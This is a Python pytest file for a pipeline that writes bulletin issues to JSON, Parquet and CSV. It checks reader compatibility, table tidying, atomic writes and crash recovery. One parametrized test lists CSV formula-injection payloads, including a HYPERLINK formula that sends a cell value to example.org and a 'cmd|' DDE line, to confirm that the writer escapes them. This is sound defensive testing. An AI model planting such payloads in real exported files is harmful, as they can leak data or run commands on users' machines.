"""Writing: what the files hold, and that all of them appear or none does."""

from __future__ import annotations

import csv
import ctypes
import errno
import io
import json
import os
import shutil
from datetime import date
from pathlib import Path
from types import SimpleNamespace
from typing import Any, ClassVar

import duckdb
import pandas as pd
import polars as pl
import pyarrow as pa
import pyarrow.dataset as ds
import pyarrow.parquet as pq
import pytest
from conftest import Stopped, stopped_at_rename, tree
from small_issue import TEXT, small_issue, with_row, with_rows

from pipeline import processes, write
from pipeline.parquet import parquet_bytes
from pipeline.render import _csv
from pipeline.rows import DATASETS, IssueData, TableCellRow, TableRow
from pipeline.schema import schema_of
from pipeline.tidy import tidy_table
from pipeline.validate import validate
from pipeline.version import fingerprint
from pipeline.write import write_issue

ISSUE = "000001-2018-03"


def test_every_file_of_an_issue(tmp_path: Path) -> None:
    written = write_issue(small_issue(), tmp_path)
    expected = {f"text/{ISSUE}.txt", f"json/{ISSUE}.json", f"tables/{ISSUE}.d01.t01.parquet"}
    expected |= {f"tables/{ISSUE}.d01.t01.csv"} | {f"parquet/{r.dataset}/2018/{ISSUE}.parquet" for r in DATASETS}
    assert set(tree(tmp_path)) == expected
    assert {path.relative_to(tmp_path).as_posix() for path in written} == expected
    assert (tmp_path / "text" / f"{ISSUE}.txt").read_bytes().decode() == TEXT
    assert validate(tmp_path) == []


def test_the_same_bytes_twice(tmp_path: Path) -> None:
    write_issue(small_issue(), tmp_path / "a")
    write_issue(small_issue(), tmp_path / "b")
    write_issue(small_issue(), tmp_path / "b")
    assert tree(tmp_path / "a") == tree(tmp_path / "b")


def test_nested_json(tmp_path: Path) -> None:
    write_issue(small_issue(), tmp_path)
    nested = json.loads((tmp_path / "json" / f"{ISSUE}.json").read_text(encoding="utf-8"))
    assert nested["pipeline_version"] == fingerprint()
    assert nested["published_on"] == "2018-10-15"
    document = nested["documents"][0]
    assert document["dates"][0]["end"] == "2018-08-31"
    assert [cell["text"] for cell in document["tables"][0]["cells"][:3]] == ["镇别", "数量（间）", "资金（万元）"]
    assert [block["role"] for block in nested["blocks"]] == ["masthead", "contents"]
    assert document["blocks"][1]["spans"][0].keys() == {"start", "end"}
    assert not {"terms", "commitments"} & document.keys()


def test_nested_json_is_one_line_without_indents(tmp_path: Path) -> None:
    write_issue(small_issue(), tmp_path)
    content = (tmp_path / "json" / f"{ISSUE}.json").read_bytes()
    assert content.endswith(b"}\n")
    assert content.count(b"\n") == 1
    assert content.decode() == json.dumps(json.loads(content), ensure_ascii=False, separators=(",", ":")) + "\n"


# --- reading as an analyst ---------------------------------------------------------------------------------------


@pytest.fixture
def two_issues(tmp_path: Path) -> Path:
    """One issue with everything; one of another year with many empty datasets, so that types have to hold alone."""
    write_issue(small_issue(), tmp_path)
    other = small_issue(number=4, tables=0)
    empty = dict.fromkeys(("responsibilities", "dates", "citations", "quantities", "findings", "organizations"), ())
    write_issue(IssueData(other.issue_id, 2019, other.source_text, {**other.rows, **empty}), tmp_path)
    return tmp_path


@pytest.mark.parametrize("row_class", DATASETS, ids=lambda row: row.dataset)
def test_whole_folder_in_pandas(two_issues: Path, row_class: Any) -> None:
    frame = pd.read_parquet(two_issues / "parquet" / row_class.dataset)
    assert list(frame.columns) == schema_of(row_class).names
    data = [small_issue(), small_issue(number=4, tables=0)]
    assert len(frame) >= len(data[0].rows[row_class.dataset])
    assert set(frame["issue_id"]) <= {ISSUE, "000001-2018-04"}


@pytest.mark.parametrize("row_class", DATASETS, ids=lambda row: row.dataset)
def test_whole_folder_in_arrow_has_the_declared_types(two_issues: Path, row_class: Any) -> None:
    folder = two_issues / "parquet" / row_class.dataset
    assert ds.dataset(folder).to_table().schema.equals(schema_of(row_class), check_metadata=False)
    for path in folder.rglob("*.parquet"):
        assert pq.read_schema(path).equals(schema_of(row_class), check_metadata=True)
        assert pq.ParquetFile(path).metadata.num_row_groups <= 1


SPANS = "list<element: struct<start: int32 not null, end: int32 not null> not null>"
POLARS = {
    "string": pl.String,
    "int32": pl.Int32,
    "double": pl.Float64,
    "bool": pl.Boolean,
    "date32[day]": pl.Date,
    "list<element: string not null>": pl.List(pl.String),
    SPANS: pl.List(pl.Struct({"start": pl.Int32, "end": pl.Int32})),
}
DUCKDB = {
    "string": "VARCHAR",
    "int32": "INTEGER",
    "double": "DOUBLE",
    "bool": "BOOLEAN",
    "date32[day]": "DATE",
    "list<element: string not null>": "VARCHAR[]",
    SPANS: 'STRUCT("start" INTEGER, "end" INTEGER)[]',
}


@pytest.mark.parametrize("row_class", DATASETS, ids=lambda row: row.dataset)
def test_whole_folder_in_polars_and_duckdb(two_issues: Path, row_class: Any) -> None:
    pattern = f"{two_issues}/parquet/{row_class.dataset}/**/*.parquet"
    frame = pl.scan_parquet(pattern).collect()
    declared = schema_of(row_class)
    assert dict(frame.schema) == {field.name: POLARS[str(field.type)] for field in declared}
    described = duckdb.sql(f"describe select * from read_parquet('{pattern}')").fetchall()
    assert {name: kind.replace("  ", " ") for name, kind, *_ in described} == {
        field.name: DUCKDB[str(field.type)] for field in declared
    }
    (count,) = duckdb.sql(f"select count(*) from read_parquet('{pattern}')").fetchall()[0]
    assert count == frame.height == len(pd.read_parquet(two_issues / "parquet" / row_class.dataset))


def test_dates_are_dates_everywhere(two_issues: Path) -> None:
    folder = two_issues / "parquet" / "dates"
    assert pd.read_parquet(folder)["end"].tolist() == [date(2018, 8, 31)]
    assert duckdb.sql(f"select \"end\" from read_parquet('{folder}/**/*.parquet')").fetchall() == [(date(2018, 8, 31),)]


@pytest.mark.parametrize("rows", [3, 5000])
def test_every_reader_takes_a_table_of_any_length_and_names(tmp_path: Path, rows: int) -> None:
    """Short tables and long ones are packed in two ways, whole numbers in a third; a header may hold what paths do."""
    numbers = [*range(rows - 1), None]
    columns = {
        "1.金额（万元）": pa.array(numbers, pa.int64()), "spans": pa.array([f"{n}号" for n in numbers]),
        "a.b": pa.array(numbers, pa.int32()), "列\n2": pa.array([-(2**40)] * rows, pa.int64()),
        "day": pa.array([date(2018, 7, 1)] * rows), "value": pa.array([n and n / 3 for n in numbers]),
    }  # fmt: skip
    table = pa.table(columns)
    path = tmp_path / "table.parquet"
    path.write_bytes(parquet_bytes(table))
    assert pq.read_table(path).equals(table)
    expected = list(zip(*table.to_pydict().values(), strict=True))
    assert duckdb.sql(f"select * from read_parquet('{path}')").fetchall() == expected
    assert pl.read_parquet(path).rows() == expected


# --- printed tables ----------------------------------------------------------------------------------------------


def test_printed_table_in_every_reader(tmp_path: Path) -> None:
    write_issue(small_issue(), tmp_path)
    stem = tmp_path / "tables" / f"{ISSUE}.d01.t01"
    table = pq.read_table(f"{stem}.parquet")
    assert table.schema.names == ["镇别", "数量（间）", "资金（万元）", "total", "row"]
    assert [str(field.type) for field in table.schema] == ["string", "int64", "double", "bool", "int32"]
    assert table.schema.field("数量（间）").metadata[b"unit"] == "间".encode()
    assert table.to_pydict()["数量（间）"] == [1, None, 3]
    assert table.to_pydict()["total"] == [False, False, True]
    raw = Path(f"{stem}.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.count(b"\r\n") == 4
    for frame in (
        pd.read_csv(f"{stem}.csv"),
        pl.read_csv(f"{stem}.csv").to_pandas(),
        duckdb.read_csv(f"{stem}.csv").df(),
    ):
        assert list(frame.columns) == table.schema.names
        assert frame["资金（万元）"].tolist() == [25.0, 50.5, 75.5]
        assert frame["total"].tolist() == [False, False, True]


def cell(row: int, col: int, text: str, **values: Any) -> TableCellRow:
    given: dict[str, Any] = {
        "issue_id": ISSUE,
        "char_start": 0,
        "char_end": len(text),
        "table_id": f"{ISSUE}.d01.t01",
        "row": row,
        "col": col,
        "row_span": 1,
        "col_span": 1,
        "header": row == 0,
        "header_path": [],
        "text": text,
        "total": False,
    }
    return TableCellRow(**given | values)


def tidy(cells: list[TableCellRow], n_rows: int, n_cols: int, header_rows: int = 1) -> pa.Table:
    row = TableRow(
        issue_id=ISSUE,
        char_start=0,
        char_end=9,
        document_id=f"{ISSUE}.d01",
        part_id=f"{ISSUE}.d01.p1",
        table_id=f"{ISSUE}.d01.t01",
        n_rows=n_rows,
        n_cols=n_cols,
        header_rows=header_rows,
        kind="data",
    )
    return tidy_table(row, cells)


def test_names_from_two_levels_and_doubles() -> None:
    cells = [
        cell(2, 0, "1", header_path=["2018年计划", "新建（间）"], value=1.0, unit="间"),
        cell(2, 1, "好", header_path=["备注"]),
        cell(2, 2, "坏", header_path=["备注"]),
        cell(2, 3, "无"),
        cell(2, 4, "x", header_path=["total"]),
    ]
    table = tidy(cells, n_rows=3, n_cols=5, header_rows=2)
    assert table.schema.names == ["2018年计划/新建（间）", "备注", "备注_2", "列4", "total_2", "total", "row"]
    assert table.schema.field(0).metadata[b"header_path"].decode() == "2018年计划/新建（间）"
    assert table["row"].to_pylist() == [2]


def test_a_unit_from_outside_of_the_header_joins_the_name() -> None:
    table = tidy([cell(1, 0, "5", header_path=["资金"], value=5.0, unit="万元")], 2, 1)
    assert table.schema.names[0] == "资金（万元）"


RUN = (
    '=HYPERLINK("http://example.org/?x="&A1,"点击")',
    "@SUM(1)",
    "+1+cmd|' /C calc'!A0",
    "-1+2",
    "－(1)",
    "＝1",
    "＠a",
)
KEPT = ("-", "－", "-5", "+5.3%", "－１２", "-1,000.5", "5-3", "甲=乙", "'=1", "（-）", "-12 %", "=")


@pytest.mark.parametrize("words", [*RUN, *KEPT, "\t=1", "\r=1", "+甲", "--5", "-5万元"])
def test_no_spreadsheet_runs_a_cell_or_a_name(tmp_path: Path, words: str) -> None:
    table = tidy([cell(1, 0, words, header_path=[words]), cell(2, 0, "甲", header_path=[words])], 3, 1)
    shown = words if words in KEPT else f"'{words}"
    header, first, _ = csv.reader(io.StringIO(_csv(table).decode("utf-8-sig"), newline=""))
    assert (header[0], first[0]) == (shown, shown)
    assert (table.column_names[0], table.column(0)[0].as_py()) == (words, words)


def test_negative_numbers_stay_numbers() -> None:
    table = tidy([cell(1, 0, "-5", value=-5.0), cell(2, 0, "-5.5", value=-5.5)], 3, 1)
    assert _csv(table).decode("utf-8-sig").splitlines()[1:] == ["-5.0,false,1", "-5.5,false,2"]


def test_numbers_of_two_units_stay_text() -> None:
    cells = [cell(1, 0, "5间", value=5.0, unit="间"), cell(2, 0, "7平方米", value=7.0, unit="平方米")]
    assert tidy(cells, 3, 1)["列1"].to_pylist() == ["5间", "7平方米"]


def test_one_word_among_numbers_makes_text() -> None:
    cells = [cell(1, 0, "5", value=5.0), cell(2, 0, "无")]
    assert tidy(cells, 3, 1)["列1"].to_pylist() == ["5", "无"]


def test_whole_numbers_printed_with_a_point_stay_decimal() -> None:
    assert tidy([cell(1, 0, "5.0", value=5.0)], 2, 1).schema.field(0).type == pa.float64()


def test_merged_cells() -> None:
    cells = [cell(1, 0, "山塘", row_span=2), cell(1, 1, "60", value=60.0, row_span=2)]
    table = tidy(cells, 3, 2)
    assert table["列1"].to_pylist() == ["山塘", "山塘"]
    assert table["列2"].to_pylist() == [60, None]


def test_an_empty_form() -> None:
    cells = [cell(0, 0, "姓名"), cell(1, 0, "", header_path=["姓名"]), cell(2, 0, "", header_path=["姓名"])]
    table = tidy(cells, 3, 1)
    assert table.schema.field("姓名").type == pa.string()
    assert table["姓名"].to_pylist() == [None, None]


# --- all or nothing ----------------------------------------------------------------------------------------------


def second(data: IssueData) -> IssueData:
    """Another build of the issue, with other values everywhere that matters."""
    return with_row(data, "terms", count=9)


@pytest.mark.parametrize("after", [0, 1, 5, 17, 18])
def test_a_full_disk_leaves_the_output_as_it_was(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, after: int) -> None:
    write_issue(small_issue(), tmp_path)
    before = tree(tmp_path)
    opened = 0
    real = os.open

    def full(path: Any, flags: int, *args: Any, **values: Any) -> int:
        nonlocal opened
        if flags & os.O_CREAT:
            opened += 1
            if opened > after:
                raise OSError(errno.ENOSPC, "No space left on device")
        return real(path, flags, *args, **values)

    monkeypatch.setattr(os, "open", full)
    with pytest.raises(OSError, match="No space left"):
        write_issue(second(small_issue()), tmp_path)
    monkeypatch.undo()
    assert tree(tmp_path) == before


def test_a_stop_at_any_rename_is_finished_by_the_next_run(tmp_path: Path) -> None:
    write_issue(second(small_issue()), tmp_path / "wanted")
    wanted = tree(tmp_path / "wanted")
    write_issue(small_issue(), tmp_path / "before")
    before = tree(tmp_path / "before")
    for stop_at in range(len(wanted) + 1):
        output = tmp_path / str(stop_at)
        shutil.copytree(tmp_path / "before", output)
        try:
            with stopped_at_rename(stop_at):
                write_issue(second(small_issue()), output)
        except Stopped:
            # No file is half: each is the old one or the new one.
            for name, content in tree(output).items():
                if not name.startswith("."):
                    assert content in (wanted[name], before[name])
            assert "leftover" in {breach.rule for breach in validate(output)}
        write.recover(output)
        assert tree(output) == wanted


def test_a_stop_while_staging_is_forgotten(tmp_path: Path) -> None:
    write_issue(small_issue(), tmp_path)
    before = tree(tmp_path)
    # A process that is gone left this behind.
    (tmp_path / f"{write.STAGING}999999999").mkdir()
    write.stage(second(small_issue()), tmp_path / f"{write.STAGING}999999999" / "0")
    write.recover(tmp_path)
    assert tree(tmp_path) == before


def test_folders_of_a_running_process_stay(tmp_path: Path) -> None:
    folder = tmp_path / f"{write.STAGING}{os.getppid()}"
    folder.mkdir()
    write.recover(tmp_path)
    assert folder.is_dir()


def test_tables_and_years_of_an_earlier_build_go(tmp_path: Path) -> None:
    write_issue(small_issue(), tmp_path)
    write_issue(small_issue(number=4), tmp_path)
    other = tree(tmp_path)
    changed = with_rows(small_issue(tables=0), {})
    write_issue(IssueData(changed.issue_id, 2019, changed.source_text, changed.rows), tmp_path)
    now = tree(tmp_path)
    assert not [name for name in now if name.startswith(f"tables/{ISSUE}")]
    assert [name for name in now if name.endswith(f"dates/2019/{ISSUE}.parquet")]
    assert not [name for name in now if name.endswith(f"/2018/{ISSUE}.parquet")]
    for name, content in other.items():
        if "2018-04" in name:
            assert now[name] == content


class Kernel:
    """What Windows says of processes: 11 goes on, 12 has ended, 13 is somebody else's, others are none."""

    closed: ClassVar[list[int]] = []
    asked = 0

    def OpenProcess(self, access: int, inherit: bool, pid: int) -> int:  # noqa: N802
        assert access == 0x1000
        assert not inherit
        return pid if pid in (11, 12) else 0

    def GetLastError(self) -> int:  # noqa: N802
        return 5 if self.asked == 13 else 87

    def GetExitCodeProcess(self, handle: int, code: Any) -> int:  # noqa: N802
        code._obj.value = 259 if handle == 11 else 0
        return 1

    def CloseHandle(self, handle: int) -> None:  # noqa: N802
        self.closed.append(handle)


@pytest.mark.parametrize(("pid", "running"), [("11", True), ("12", False), ("13", True), ("14", False), ("x", False)])
def test_windows_is_asked_in_its_own_way(pid: str, running: bool, monkeypatch: pytest.MonkeyPatch) -> None:
    """There `os.kill(pid, 0)` would send Ctrl-C to the run that is asked about."""

    def no_signal(_pid: int, _signal: int) -> None:
        pytest.fail("a signal was sent")

    kernel = Kernel()
    kernel.asked = int(pid) if pid.isdecimal() else 0
    Kernel.closed.clear()
    monkeypatch.setattr(ctypes, "windll", SimpleNamespace(kernel32=kernel), raising=False)
    monkeypatch.setattr(processes, "os", SimpleNamespace(name="nt", getpid=os.getpid, kill=no_signal))
    assert processes.is_running(pid) is running
    assert Kernel.closed == ([int(pid)] if pid in ("11", "12") else [])
